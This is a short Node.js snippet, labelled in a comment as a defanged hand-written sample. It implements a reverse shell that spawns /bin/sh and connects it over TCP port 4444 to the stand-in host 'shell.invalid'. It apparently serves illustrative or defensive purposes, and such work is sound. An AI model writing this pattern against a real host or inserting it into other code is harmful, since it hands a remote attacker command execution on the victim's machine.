// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const net = require("net"), child = require("child_process");
const shell = child.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "shell.invalid", () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
});
